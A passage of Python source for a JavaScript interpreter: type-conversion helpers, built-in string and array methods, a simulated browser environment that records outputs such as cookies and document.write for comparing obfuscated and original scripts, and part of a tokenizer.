    if isinstance(value, (int, float)):
        return float(value)
    if value is JSUndefined:
        return math.nan
    if value is JSNull:
        return 0.0
    if isinstance(value, str):
        text = value.strip()
        if text == "":
            return 0.0
        try:
            if text.lower().startswith(("0x", "-0x", "+0x")):
                return float(int(text, 16))
            return float(text)
        except ValueError:
            return math.nan
    if isinstance(value, JSArray):
        if not value.elements:
            return 0.0
        if len(value.elements) == 1:
            return to_number(value.elements[0])
        return math.nan
    return math.nan  # objects/functions


def to_int32(value: Any) -> int:
    number = to_number(value)
    if math.isnan(number) or math.isinf(number):
        return 0
    n = int(number) & 0xFFFFFFFF
    return n - 0x100000000 if n >= 0x80000000 else n


def to_uint32(value: Any) -> int:
    number = to_number(value)
    if math.isnan(number) or math.isinf(number):
        return 0
    return int(number) & 0xFFFFFFFF


def format_number(number: float) -> str:
    if math.isnan(number):
        return "NaN"
    if math.isinf(number):
        return "Infinity" if number > 0 else "-Infinity"
    if number == int(number) and abs(number) < 1e21:
        return str(int(number))
    return repr(number)


def to_string(value: Any) -> str:
    if value is JSUndefined:
        return "undefined"
    if value is JSNull:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        return format_number(value)
    if isinstance(value, str):
        return value
    if isinstance(value, JSArray):
        return ",".join("" if e is JSUndefined or e is JSNull else to_string(e) for e in value.elements)
    if isinstance(value, (JSFunction, NativeFunction)):
        name = getattr(value, "name", "")
        return f"function {name}() {{ [code] }}"
    if isinstance(value, JSObject):
        return "[object Object]"
    return str(value)


def type_of(value: Any) -> str:
    if value is JSUndefined:
        return "undefined"
    if value is JSNull:
        return "object"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, float):
        return "number"
    if isinstance(value, str):
        return "string"
    if isinstance(value, (JSFunction, NativeFunction)):
        return "function"
    return "object"


def js_equals(a: Any, b: Any) -> bool:
    """Abstract (loose) equality for the supported value set."""
    if strict_equals(a, b):
        return True
    null_like = (JSNull, JSUndefined)
    if (a in null_like if not isinstance(a, (JSObject, JSFunction)) else False) and (
        b in null_like if not isinstance(b, (JSObject, JSFunction)) else False
    ):
        return True
    if isinstance(a, (bool, float)) and isinstance(b, str):
        return to_number(a) == to_number(b)
    if isinstance(a, str) and isinstance(b, (bool, float)):
        return to_number(a) == to_number(b)
    if isinstance(a, bool) or isinstance(b, bool):
        return to_number(a) == to_number(b)
    if isinstance(a, (JSObject,)) and isinstance(b, (str, float)):
        return js_equals(to_string(a), b)
    if isinstance(b, (JSObject,)) and isinstance(a, (str, float)):
        return js_equals(a, to_string(b))
    return False


def strict_equals(a: Any, b: Any) -> bool:
    if type_of(a) != type_of(b):
        return False
    if isinstance(a, float) and isinstance(b, float):
        return a == b  # NaN != NaN handled by float semantics
    if isinstance(a, (JSObject, JSFunction, NativeFunction)):
        return a is b
    return a == b
