"""Built-in methods on primitive and object values.

Implements the String/Array/Number prototype methods the corpus exercises
(charCodeAt, fromCharCode-era decoding loops, split/join/replace, push,
indexOf, …).  ``lookup(value, name)`` returns a :class:`BoundMethod` or
``None`` when the receiver has no such built-in.
"""

from __future__ import annotations

import math
import re
from dataclasses import dataclass
from typing import Any, Callable

from .values import (
    JSArray,
    JSNull,
    JSObject,
    JSUndefined,
    format_number,
    to_number,
    to_string,
)


@dataclass
class BoundMethod:
    """A built-in method bound to its receiver."""

    name: str
    receiver: Any
    fn: Callable[[Any, list[Any]], Any]

    def call(self, args: list[Any]) -> Any:
        return self.fn(self.receiver, args)


def _arg(args: list[Any], index: int, default: Any = JSUndefined) -> Any:
    return args[index] if index < len(args) else default


# ----------------------------------------------------------------- strings


def _str_char_at(s, args):
    index = int(to_number(_arg(args, 0, 0.0)) or 0)
    return s[index] if 0 <= index < len(s) else ""


def _str_char_code_at(s, args):
    index = int(to_number(_arg(args, 0, 0.0)) or 0)
    return float(ord(s[index])) if 0 <= index < len(s) else math.nan


def _str_index_of(s, args):
    needle = to_string(_arg(args, 0, ""))
    start = int(to_number(_arg(args, 1, 0.0)) or 0)
    return float(s.find(needle, max(start, 0)))


def _str_last_index_of(s, args):
    return float(s.rfind(to_string(_arg(args, 0, ""))))


def _str_substring(s, args):
    a = int(to_number(_arg(args, 0, 0.0)) or 0)
    b_raw = _arg(args, 1, None)
    b = len(s) if b_raw in (None, JSUndefined) else int(to_number(b_raw) or 0)
    a, b = max(0, min(a, len(s))), max(0, min(b, len(s)))
    if a > b:
        a, b = b, a
    return s[a:b]


def _str_slice(s, args):
    a = int(to_number(_arg(args, 0, 0.0)) or 0)
    b_raw = _arg(args, 1, None)
    b = len(s) if b_raw in (None, JSUndefined) else int(to_number(b_raw) or 0)
    return s[slice(a if a >= 0 else max(len(s) + a, 0), b if b >= 0 else len(s) + b)]


def _str_substr(s, args):
    start = int(to_number(_arg(args, 0, 0.0)) or 0)
    if start < 0:
        start = max(len(s) + start, 0)
    length_raw = _arg(args, 1, None)
    length = len(s) if length_raw in (None, JSUndefined) else int(to_number(length_raw) or 0)
    return s[start : start + max(length, 0)]


def _str_split(s, args):
    separator = _arg(args, 0, JSUndefined)
    if separator is JSUndefined:
        return JSArray([s])
    sep = to_string(separator)
    if sep == "":
        return JSArray(list(s))
    return JSArray(s.split(sep))


def _regex_to_python(source: str, flags: str) -> re.Pattern:
    py_flags = re.IGNORECASE if "i" in flags else 0
    return re.compile(source, py_flags)


def _str_replace(s, args):
    pattern = _arg(args, 0, "")
    replacement = to_string(_arg(args, 1, ""))
    if isinstance(pattern, JSObject) and pattern.has("source"):
        regex = _regex_to_python(to_string(pattern.get("source")), to_string(pattern.get("flags")))
        count = 0 if "g" in to_string(pattern.get("flags")) else 1
        replacement_py = replacement.replace("\\", "\\\\")
        return regex.sub(replacement_py, s, count=count)
    return s.replace(to_string(pattern), replacement, 1)


def _str_to_lower(s, args):
    return s.lower()


def _str_to_upper(s, args):
    return s.upper()


def _str_trim(s, args):
    return s.strip()


def _str_concat(s, args):
    return s + "".join(to_string(a) for a in args)


def _str_starts_with(s, args):
    return s.startswith(to_string(_arg(args, 0, "")))


_STRING_METHODS = {
    "charAt": _str_char_at,
    "charCodeAt": _str_char_code_at,
    "indexOf": _str_index_of,
    "lastIndexOf": _str_last_index_of,
    "substring": _str_substring,
    "substr": _str_substr,
    "slice": _str_slice,
    "split": _str_split,
    "replace": _str_replace,
    "toLowerCase": _str_to_lower,
    "toUpperCase": _str_to_upper,
    "trim": _str_trim,
    "concat": _str_concat,
    "startsWith": _str_starts_with,
    "toString": lambda s, args: s,
}


# ------------------------------------------------------------------ arrays


def _arr_push(arr, args):
    arr.elements.extend(args)
    return float(len(arr.elements))


def _arr_pop(arr, args):
    return arr.elements.pop() if arr.elements else JSUndefined


def _arr_shift(arr, args):
    return arr.elements.pop(0) if arr.elements else JSUndefined


def _arr_unshift(arr, args):
    arr.elements[:0] = args
    return float(len(arr.elements))


def _arr_join(arr, args):
    separator = to_string(_arg(args, 0, ","))
    if _arg(args, 0, None) in (None, JSUndefined):
        separator = ","
    return separator.join(
        "" if e is JSUndefined or e is JSNull else to_string(e) for e in arr.elements
    )


def _arr_index_of(arr, args):
    from .values import strict_equals

    needle = _arg(args, 0)
    for i, element in enumerate(arr.elements):
        if strict_equals(element, needle):
            return float(i)
    return -1.0


def _arr_slice(arr, args):
    a_raw, b_raw = _arg(args, 0, None), _arg(args, 1, None)
    a = 0 if a_raw in (None, JSUndefined) else int(to_number(a_raw) or 0)
    b = len(arr.elements) if b_raw in (None, JSUndefined) else int(to_number(b_raw) or 0)
    return JSArray(arr.elements[slice(a if a >= 0 else len(arr.elements) + a, b if b >= 0 else len(arr.elements) + b)])


def _arr_concat(arr, args):
    out = list(arr.elements)
    for a in args:
        if isinstance(a, JSArray):
            out.extend(a.elements)
        else:
            out.append(a)
    return JSArray(out)


def _arr_reverse(arr, args):
    arr.elements.reverse()
    return arr


def _arr_to_string(arr, args):
    return _arr_join(arr, [","])


_ARRAY_METHODS = {
    "push": _arr_push,
    "pop": _arr_pop,
    "shift": _arr_shift,
    "unshift": _arr_unshift,
    "join": _arr_join,
    "indexOf": _arr_index_of,
    "slice": _arr_slice,
    "concat": _arr_concat,
    "reverse": _arr_reverse,
    "toString": _arr_to_string,
}


# ----------------------------------------------------------------- numbers

_NUMBER_METHODS = {
    "toString": lambda n, args: _number_to_string(n, args),
    "toFixed": lambda n, args: f"{n:.{int(to_number(_arg(args, 0, 0.0)) or 0)}f}",
}


def _number_to_string(n: float, args) -> str:
    base = int(to_number(_arg(args, 0, 10.0)) or 10)
    if base == 10:
        return format_number(n)
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    value = int(n)
    if value == 0:
        return "0"
    negative = value < 0
    value = abs(value)
    out = ""
    while value:
        out = digits[value % base] + out
        value //= base
    return "-" + out if negative else out


# ------------------------------------------------------------------ lookup


def lookup(value: Any, name: str) -> Any:
    """Return a bound built-in for ``value.name``, or None."""
    if isinstance(value, str):
        if name == "length":
            return float(len(value))
        fn = _STRING_METHODS.get(name)
        if fn is not None:
            return BoundMethod(name, value, fn)
        return None
    if isinstance(value, JSArray):
        fn = _ARRAY_METHODS.get(name)
        if fn is not None:
            return BoundMethod(name, value, fn)
        return None  # length handled by JSArray.get via interpreter fallback
    if isinstance(value, (float, int)) and not isinstance(value, bool):
        fn = _NUMBER_METHODS.get(name)
        if fn is not None:
            return BoundMethod(name, float(value), fn)
        return None
    if isinstance(value, JSObject):
        # apply/call on stored functions are accessed through the object;
        # generic objects have no built-ins beyond their own properties.
        return None
    from .values import JSFunction, NativeFunction

    if isinstance(value, (JSFunction, NativeFunction, BoundMethod)) and name in ("call", "apply"):
        return BoundMethod(name, value, _fn_call if name == "call" else _fn_apply)
    return None


def _fn_call(fn, args):
    from .interpreter import _ACTIVE_INTERPRETER

    this = _arg(args, 0, JSUndefined)
    return _ACTIVE_INTERPRETER[0].call_function(fn, this, list(args[1:]))


def _fn_apply(fn, args):
    from .interpreter import _ACTIVE_INTERPRETER

    this = _arg(args, 0, JSUndefined)
    rest = _arg(args, 1, None)
    arg_list = list(rest.elements) if isinstance(rest, JSArray) else []
    return _ACTIVE_INTERPRETER[0].call_function(fn, this, arg_list)
