"""Host environment: the browser/ES builtins the corpus touches.

The interpreter's *observable output* — everything the semantic-
preservation tests compare — flows through :class:`HostRecorder`:
``console.log`` lines, ``document.write`` payloads, cookies, DOM text
mutations, timers scheduled, and URLs assigned to ``window.location``.

String/array/number methods are implemented as native methods dispatched
by :mod:`repro.jsinterp.interpreter`; this module provides the global
objects (console, document, window, Math, JSON, String, …).
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Any

from .values import (
    JSArray,
    JSNull,
    JSObject,
    JSUndefined,
    NativeFunction,
    to_number,
    to_string,
)


@dataclass
class HostRecorder:
    """Captures every externally observable effect of a run."""

    console: list[str] = field(default_factory=list)
    writes: list[str] = field(default_factory=list)
    cookies: list[str] = field(default_factory=list)
    locations: list[str] = field(default_factory=list)
    timers: list[float] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def observable(self) -> tuple:
        """The comparison key for semantic-preservation checks.

        Timer *delays* are excluded: obfuscators may legally repackage a
        constant, but scheduling order and payload visibility are kept.
        """
        return (tuple(self.console), tuple(self.writes), tuple(self.cookies), tuple(self.locations), tuple(self.errors))


def _num(value: float) -> float:
    return float(value)


def build_globals(recorder: HostRecorder, interpreter) -> dict[str, Any]:
    """The global bindings visible to interpreted programs."""

    def native(name):
        def wrap(fn):
            return NativeFunction(name, fn)

        return wrap

    # ------------------------------------------------------------- console
    console = JSObject()

    @native("log")
    def console_log(this, args):
        recorder.console.append(" ".join(to_string(a) for a in args))
        return JSUndefined

    console.set("log", console_log)
    console.set("warn", NativeFunction("warn", lambda this, args: recorder.console.append("WARN " + " ".join(to_string(a) for a in args)) or JSUndefined))
    console.set("error", NativeFunction("error", lambda this, args: recorder.console.append("ERROR " + " ".join(to_string(a) for a in args)) or JSUndefined))

    # ------------------------------------------------------------ document
    document = JSObject()
    document.set("cookie", "")
    document.set("referrer", "")
    document.set("title", "demo")

    @native("write")
    def document_write(this, args):
        recorder.writes.append("".join(to_string(a) for a in args))
        return JSUndefined

    document.set("write", document_write)

    def _element(identifier: str) -> JSObject:
        element = JSObject(
            {
                "id": identifier,
                "innerHTML": "",
                "textContent": "",
                "title": "",
                "className": "",
                "offsetLeft": 0.0,
                "style": JSObject(),
            }
        )
        return element

    elements: dict[str, JSObject] = {}

    @native("getElementById")
    def get_element_by_id(this, args):
        identifier = to_string(args[0]) if args else ""
        if identifier not in elements:
            elements[identifier] = _element(identifier)
        return elements[identifier]

    document.set("getElementById", get_element_by_id)
    document.set(
        "getElementsByTagName",
        NativeFunction("getElementsByTagName", lambda this, args: JSArray([])),
    )
    document.set(
        "querySelectorAll", NativeFunction("querySelectorAll", lambda this, args: JSArray([]))
    )
    document.set(
        "addEventListener", NativeFunction("addEventListener", lambda this, args: JSUndefined)
    )
    document.set("createElement", NativeFunction("createElement", lambda this, args: _element("anon")))
    document.set("head", JSObject({"appendChild": NativeFunction("appendChild", lambda this, args: args[0] if args else JSUndefined)}))
    document.set("body", JSObject({"appendChild": NativeFunction("appendChild", lambda this, args: args[0] if args else JSUndefined)}))
    document.set("readyState", "complete")

    # -------------------------------------------------------------- window
    location = JSObject({"pathname": "/demo", "search": "", "href": "https://host.example/demo"})
    location.set(
        "replace",
        NativeFunction("replace", lambda this, args: recorder.locations.append(to_string(args[0]) if args else "") or JSUndefined),
    )

    window = JSObject()
    window.set("location", location)

    # Timers run synchronously at schedule time (deterministic, and the
    # corpus uses fire-once timers), but self-rescheduling chains
    # (`function poll() { …; setTimeout(poll) }`) are cut after a small
    # nesting depth — like a test harness draining a bounded task queue.
    timer_depth = [0]

    @native("setTimeout")
    def set_timeout(this, args):
        if args:
            recorder.timers.append(to_number(args[1]) if len(args) > 1 else 0.0)
            if timer_depth[0] >= 3:
                return _num(len(recorder.timers))
            timer_depth[0] += 1
            try:
                callback = args[0]
                if isinstance(callback, str):
                    interpreter.eval_source(callback)
                else:
                    interpreter.call_function(callback, JSUndefined, [])
            finally:
                timer_depth[0] -= 1
        return _num(len(recorder.timers))

    window.set("setTimeout", set_timeout)
    window.set("setInterval", NativeFunction("setInterval", lambda this, args: _num(0)))

    # ---------------------------------------------------------------- Math
    math_obj = JSObject()
    math_obj.set("floor", NativeFunction("floor", lambda this, args: _num(math.floor(to_number(args[0])))))
    math_obj.set("ceil", NativeFunction("ceil", lambda this, args: _num(math.ceil(to_number(args[0])))))
    math_obj.set("abs", NativeFunction("abs", lambda this, args: _num(abs(to_number(args[0])))))
    math_obj.set("max", NativeFunction("max", lambda this, args: _num(max((to_number(a) for a in args), default=-math.inf))))
    math_obj.set("min", NativeFunction("min", lambda this, args: _num(min((to_number(a) for a in args), default=math.inf))))
    math_obj.set("pow", NativeFunction("pow", lambda this, args: _num(to_number(args[0]) ** to_number(args[1]))))
    math_obj.set("sqrt", NativeFunction("sqrt", lambda this, args: _num(math.sqrt(to_number(args[0])))))
    # Deterministic "random" keeps runs comparable.
    _random_state = [0.42]

    @native("random")
    def math_random(this, args):
        _random_state[0] = (_random_state[0] * 9301 + 49297) % 233280 / 233280
        return _num(_random_state[0])

    math_obj.set("random", math_random)

    # ---------------------------------------------------------------- JSON
    json_obj = JSObject()

    @native("stringify")
    def json_stringify(this, args):
        return _json_stringify(args[0] if args else JSUndefined)

    @native("parse")
    def json_parse(this, args):
        import json as pyjson

        text = to_string(args[0]) if args else ""
        return _json_to_js(pyjson.loads(text))

    json_obj.set("stringify", json_stringify)
    json_obj.set("parse", json_parse)

    # -------------------------------------------------------------- String
    string_ctor = NativeFunction("String", lambda this, args: to_string(args[0]) if args else "")
    string_obj = JSObject({"fromCharCode": NativeFunction(
        "fromCharCode", lambda this, args: "".join(chr(int(to_number(a)) & 0xFFFF) for a in args)
    )})
    # String is callable *and* carries fromCharCode; model it as a native
    # function with properties.
    string_callable = NativeFunction("String", string_ctor.fn)
    string_callable.properties = string_obj.properties  # type: ignore[attr-defined]

    # --------------------------------------------------------------- misc
    @native("parseInt")
    def js_parse_int(this, args):
        text = to_string(args[0]).strip() if args else ""
        base = int(to_number(args[1])) if len(args) > 1 and to_number(args[1]) == to_number(args[1]) and to_number(args[1]) != 0 else 10
        sign = 1
        if text[:1] in "+-":
            sign = -1 if text[0] == "-" else 1
            text = text[1:]
        if text[:2].lower() == "0x" and (base == 16 or len(args) < 2):
            base = 16
            text = text[2:]
        digits = "0123456789abcdefghijklmnopqrstuvwxyz"[:base]
        out = ""
        for ch in text.lower():
            if ch in digits:
                out += ch
            else:
                break
        return _num(sign * int(out, base)) if out else _num(math.nan)

    @native("parseFloat")
    def js_parse_float(this, args):
        text = to_string(args[0]).strip() if args else ""
        out = ""
        seen_dot = False
        for i, ch in enumerate(text):
            if ch.isdigit() or (ch in "+-" and i == 0) or (ch == "." and not seen_dot):
                seen_dot = seen_dot or ch == "."
                out += ch
            else:
                break
        try:
            return _num(float(out))
        except ValueError:
            return _num(math.nan)

    @native("unescape")
    def js_unescape(this, args):
        text = to_string(args[0]) if args else ""
        out = []
        i = 0
        while i < len(text):
            if text[i] == "%" and i + 5 < len(text) + 1 and text[i + 1 : i + 2] == "u":
                try:
                    out.append(chr(int(text[i + 2 : i + 6], 16)))
                    i += 6
                    continue
                except ValueError:
                    pass
            if text[i] == "%" and i + 2 < len(text) + 1:
                try:
                    out.append(chr(int(text[i + 1 : i + 3], 16)))
                    i += 3
                    continue
                except ValueError:
                    pass
            out.append(text[i])
            i += 1
        return "".join(out)

    @native("escape")
    def js_escape(this, args):
        text = to_string(args[0]) if args else ""
        safe = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789@*_+-./"
        out = []
        for ch in text:
            if ch in safe:
                out.append(ch)
            elif ord(ch) < 256:
                out.append(f"%{ord(ch):02X}")
            else:
                out.append(f"%u{ord(ch):04X}")
        return "".join(out)

    @native("eval")
    def js_eval(this, args):
        if not args or not isinstance(args[0], str):
            return args[0] if args else JSUndefined
        return interpreter.eval_source(args[0])

    @native("isNaN")
    def js_is_nan(this, args):
        return math.isnan(to_number(args[0])) if args else True

    navigator = JSObject({"userAgent": "ReproBrowser/1.0", "hardwareConcurrency": 4.0})

    session_storage = JSObject()
    session_storage.set("setItem", NativeFunction("setItem", lambda this, args: JSUndefined))
    session_storage.set("getItem", NativeFunction("getItem", lambda this, args: JSNull))

    globals_map: dict[str, Any] = {
        "console": console,
        "document": document,
        "window": window,
        "location": location,
        "navigator": navigator,
        "Math": math_obj,
        "JSON": json_obj,
        "String": string_callable,
        "parseInt": js_parse_int,
        "parseFloat": js_parse_float,
        "unescape": js_unescape,
        "escape": js_escape,
        "eval": js_eval,
        "isNaN": js_is_nan,
        "setTimeout": set_timeout,
        "setInterval": window.get("setInterval"),
        "sessionStorage": session_storage,
        "undefined": JSUndefined,
        "NaN": math.nan,
        "Infinity": math.inf,
        "Array": _array_constructor(),
        "Image": NativeFunction("Image", lambda this, args: JSObject({"src": ""})),
        "XMLHttpRequest": NativeFunction(
            "XMLHttpRequest",
            lambda this, args: JSObject(
                {
                    "open": NativeFunction("open", lambda t, a: JSUndefined),
                    "send": NativeFunction("send", lambda t, a: JSUndefined),
                    "readyState": 0.0,
                    "status": 0.0,
                }
            ),
        ),
        "WebSocket": NativeFunction("WebSocket", lambda this, args: JSObject({"send": NativeFunction("send", lambda t, a: JSUndefined)})),
        "Error": NativeFunction("Error", lambda this, args: JSObject({"message": to_string(args[0]) if args else ""})),
        "Date": NativeFunction("Date", lambda this, args: JSObject({"getTime": NativeFunction("getTime", lambda t, a: 0.0)})),
    }

    # document.cookie writes must accumulate like the real attribute.
    original_set = document.set

    def document_set(key: str, value: Any) -> None:
        if key == "cookie":
            recorder.cookies.append(to_string(value))
            merged = document.properties.get("cookie", "")
            fragment = to_string(value).split(";")[0]
            document.properties["cookie"] = (merged + "; " + fragment).lstrip("; ")
            return
        original_set(key, value)

    document.set = document_set  # type: ignore[method-assign]

    return globals_map


def _array_constructor() -> NativeFunction:
    """``Array(...)`` plus ``Array.prototype.slice`` (used via .call)."""

    def construct(this, args):
        if len(args) == 1 and isinstance(args[0], float):
            return JSArray([JSUndefined] * int(args[0]))
        return JSArray(list(args))

    def proto_slice(this, args):
        start = int(to_number(args[0])) if args else 0
        elements = this.elements if isinstance(this, JSArray) else []
        return JSArray(list(elements[start:]))

    ctor = NativeFunction("Array", construct)
    ctor.properties = {  # type: ignore[attr-defined]
        "prototype": JSObject({"slice": NativeFunction("slice", proto_slice)})
    }
    return ctor


def _json_stringify(value: Any) -> str:
    import json as pyjson

    return pyjson.dumps(_js_to_json(value))


def _js_to_json(value: Any):
    if value is JSUndefined or value is JSNull:
        return None
    if isinstance(value, float):
        return int(value) if value == int(value) else value
    if isinstance(value, (bool, str)):
        return value
    if isinstance(value, JSArray):
        return [_js_to_json(v) for v in value.elements]
    if isinstance(value, JSObject):
        return {k: _js_to_json(v) for k, v in value.properties.items() if not isinstance(v, NativeFunction)}
    return to_string(value)


def _json_to_js(value):
    if value is None:
        return JSNull
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return float(value)
    if isinstance(value, str):
        return value
    if isinstance(value, list):
        return JSArray([_json_to_js(v) for v in value])
    if isinstance(value, dict):
        return JSObject({k: _json_to_js(v) for k, v in value.items()})
    return JSUndefined
