"""A hand-written JavaScript tokenizer.

Covers the ES5.1 lexical grammar plus the ES2015 constructs the parser
supports (template literals, arrow ``=>``, spread ``...``).  The lexer keeps
enough context to disambiguate division from regular-expression literals the
same way Esprima does: a ``/`` starts a regex whenever the previous
significant token cannot end an expression.
"""

from __future__ import annotations

from dataclasses import dataclass

from .errors import JSSyntaxError
from .tokens import KEYWORDS, PUNCTUATORS, Token, TokenType


@dataclass(frozen=True)
class Comment:
    """One source comment, kept for suppression directives and tooling.

    ``line`` is the 1-based line the comment *starts* on; ``own_line`` is
    True when only whitespace precedes it, so directive consumers can tell
    trailing comments (apply to this line) from standalone ones (apply to
    the next line).
    """

    text: str  # interior text, without the // or /* */ markers
    line: int
    column: int
    block: bool
    own_line: bool

_LINE_TERMINATORS = "\n\r  "
_ID_START_EXTRA = "$_"
_HEX_DIGITS = "0123456789abcdefABCDEF"
#: ASCII only — ``str.isdigit()`` also accepts superscripts and other
#: unicode digits that are not valid in JS numeric literals (and that
#: ``float()`` rejects, e.g. ``"0²"``).
_DECIMAL_DIGITS = "0123456789"


def _is_ascii_digit(ch: str) -> bool:
    # ``ch in _DECIMAL_DIGITS`` alone is wrong for ``_peek()``'s "" at EOF
    # (the empty string is a substring of everything).
    return len(ch) == 1 and ch in _DECIMAL_DIGITS

#: Tokens after which a ``/`` must be a division sign, not a regex start.
_REGEX_FORBIDDEN_PUNCTUATORS = frozenset({")", "]", "}", "++", "--"})
#: Keywords after which ``/`` *does* start a regex (e.g. ``return /x/``).
_REGEX_ALLOWED_KEYWORDS = frozenset(
    {
        "return",
        "typeof",
        "instanceof",
        "in",
        "of",
        "new",
        "delete",
        "void",
        "throw",
        "case",
        "do",
        "else",
    }
)


def _is_id_start(ch: str) -> bool:
    return ch.isalpha() or ch in _ID_START_EXTRA or ord(ch) > 0x7F


def _is_id_part(ch: str) -> bool:
    return ch.isalnum() or ch in _ID_START_EXTRA or ord(ch) > 0x7F


class Lexer:
    """Tokenizes JavaScript source text.

    Usage::

        tokens = Lexer("var x = 1;").tokenize()

    The returned list always ends with a single EOF token.
    """

    def __init__(self, source: str):
        self.source = source
        self.length = len(source)
        self.index = 0
        self.line = 1
        self.line_start = 0
        self._tokens: list[Token] = []
        self._newline_before_next = False
        #: Comments encountered while skipping trivia, in source order.
        self.comments: list[Comment] = []

    # ------------------------------------------------------------------ API

    def tokenize(self) -> list[Token]:
        """Lex the entire source and return the token list (EOF-terminated)."""
        while True:
            token = self._next_token()
            self._tokens.append(token)
            if token.type is TokenType.EOF:
                return self._tokens

    # ------------------------------------------------------------- internals

    @property
    def _column(self) -> int:
        return self.index - self.line_start

    def _error(self, message: str) -> JSSyntaxError:
        return JSSyntaxError(message, self.line, self._column, self.index)

    def _peek(self, offset: int = 0) -> str:
        i = self.index + offset
        return self.source[i] if i < self.length else ""

    def _advance_line(self, ch: str) -> None:
        """Account for a line terminator at the current position."""
        if ch == "\r" and self._peek(1) == "\n":
            self.index += 1
        self.index += 1
        self.line += 1
        self.line_start = self.index
        self._newline_before_next = True

    def _skip_whitespace_and_comments(self) -> None:
        while self.index < self.length:
            ch = self.source[self.index]
            if ch in _LINE_TERMINATORS:
                self._advance_line(ch)
            elif ch.isspace():
                self.index += 1
            elif ch == "/" and self._peek(1) == "/":
                start, line, column, own_line = self.index, self.line, self._column, self._own_line()
                while self.index < self.length and self.source[self.index] not in _LINE_TERMINATORS:
                    self.index += 1
                self.comments.append(
                    Comment(self.source[start + 2 : self.index], line, column, False, own_line)
                )
            elif ch == "/" and self._peek(1) == "*":
                self._skip_block_comment()
            else:
                return

    def _own_line(self) -> bool:
        """Is the cursor preceded only by whitespace on its line?"""
        return self.source[self.line_start : self.index].strip() == ""

    def _skip_block_comment(self) -> None:
        start, start_line, column, own_line = self.index, self.line, self._column, self._own_line()
        self.index += 2
        while self.index < self.length:
            ch = self.source[self.index]
            if ch == "*" and self._peek(1) == "/":
                self.index += 2
                self.comments.append(
                    Comment(self.source[start + 2 : self.index - 2], start_line, column, True, own_line)
                )
                return
            if ch in _LINE_TERMINATORS:
                self._advance_line(ch)
            else:
                self.index += 1
        raise JSSyntaxError("Unterminated block comment", start_line, 0, self.index)

    def _make_token(self, type_: TokenType, value: str, start: int, line: int, column: int) -> Token:
        token = Token(
            type=type_,
            value=value,
            start=start,
            end=self.index,
            line=line,
            column=column,
            raw=self.source[start : self.index],
            preceded_by_newline=self._newline_before_next,
        )
        self._newline_before_next = False
        return token

    def _next_token(self) -> Token:
        self._skip_whitespace_and_comments()
        start, line, column = self.index, self.line, self._column
        if self.index >= self.length:
            return self._make_token(TokenType.EOF, "", start, line, column)

        ch = self.source[self.index]
        if _is_id_start(ch):
            return self._lex_identifier(start, line, column)
        if ch in _DECIMAL_DIGITS or (ch == "." and _is_ascii_digit(self._peek(1))):
            return self._lex_number(start, line, column)
        if ch in "'\"":
            return self._lex_string(start, line, column)
        if ch == "`":
            return self._lex_template(start, line, column)
        if ch == "/" and self._regex_allowed():
            return self._lex_regex(start, line, column)
        return self._lex_punctuator(start, line, column)

    # --------------------------------------------------------------- lexers

    def _lex_identifier(self, start: int, line: int, column: int) -> Token:
        while self.index < self.length and _is_id_part(self.source[self.index]):
            self.index += 1
        word = self.source[start : self.index]
        if word in ("true", "false"):
            type_ = TokenType.BOOLEAN
        elif word == "null":
            type_ = TokenType.NULL
        elif word in KEYWORDS:
            type_ = TokenType.KEYWORD
        else:
            type_ = TokenType.IDENTIFIER
        return self._make_token(type_, word, start, line, column)

    def _lex_number(self, start: int, line: int, column: int) -> Token:
        src = self.source
        if src[self.index] == "0" and self._peek(1) in ("x", "X"):
            self.index += 2
            digits_start = self.index
            while self.index < self.length and src[self.index] in _HEX_DIGITS:
                self.index += 1
            if self.index == digits_start:
                raise self._error("Missing hexadecimal digits")
        elif src[self.index] == "0" and self._peek(1) in ("o", "O"):
            self.index += 2
            while self.index < self.length and src[self.index] in "01234567":
                self.index += 1
        elif src[self.index] == "0" and self._peek(1) in ("b", "B"):
            self.index += 2
            while self.index < self.length and src[self.index] in "01":
                self.index += 1
        else:
            while self.index < self.length and src[self.index] in _DECIMAL_DIGITS:
                self.index += 1
            if self._peek() == "." and self._peek(1) != ".":
                self.index += 1
                while self.index < self.length and src[self.index] in _DECIMAL_DIGITS:
                    self.index += 1
            if self._peek() in ("e", "E"):
                save = self.index
                self.index += 1
                if self._peek() in ("+", "-"):
                    self.index += 1
                if not _is_ascii_digit(self._peek()):
                    self.index = save
                else:
                    while self.index < self.length and src[self.index] in _DECIMAL_DIGITS:
                        self.index += 1
        if self.index < self.length and _is_id_start(src[self.index]):
            raise self._error("Identifier directly after number")
        return self._make_token(TokenType.NUMERIC, src[start : self.index], start, line, column)

    def _lex_string(self, start: int, line: int, column: int) -> Token:
        quote = self.source[self.index]
        self.index += 1
        chars: list[str] = []
        while True:
            if self.index >= self.length:
                raise self._error("Unterminated string literal")
            ch = self.source[self.index]
            if ch == quote:
                self.index += 1
                break
            if ch == "\\":
                chars.append(self._lex_escape())
            elif ch in _LINE_TERMINATORS:
                raise self._error("Unterminated string literal")
            else:
                chars.append(ch)
                self.index += 1
        return self._make_token(TokenType.STRING, "".join(chars), start, line, column)

    def _lex_escape(self) -> str:
        """Decode a backslash escape; the cursor sits on the backslash."""
        self.index += 1
        if self.index >= self.length:
            raise self._error("Unterminated escape sequence")
        ch = self.source[self.index]
        if ch in _LINE_TERMINATORS:  # line continuation
            self._advance_line(ch)
            self._newline_before_next = False
            return ""
        self.index += 1
        simple = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f", "v": "\v", "0": "\0"}
        if ch in simple and not (ch == "0" and _is_ascii_digit(self._peek())):
            return simple[ch]
        if ch == "x":
            return self._lex_hex_escape(2)
        if ch == "u":
            if self._peek() == "{":
                self.index += 1
                digits_start = self.index
                while self._peek() in _HEX_DIGITS:
                    self.index += 1
                code = int(self.source[digits_start : self.index], 16)
                if self._peek() != "}":
                    raise self._error("Invalid unicode escape")
                self.index += 1
                return chr(code)
            return self._lex_hex_escape(4)
        return ch  # identity escape, e.g. \' \" \\ \/

    def _lex_hex_escape(self, width: int) -> str:
        digits = self.source[self.index : self.index + width]
        if len(digits) < width or any(d not in _HEX_DIGITS for d in digits):
            raise self._error("Invalid hexadecimal escape")
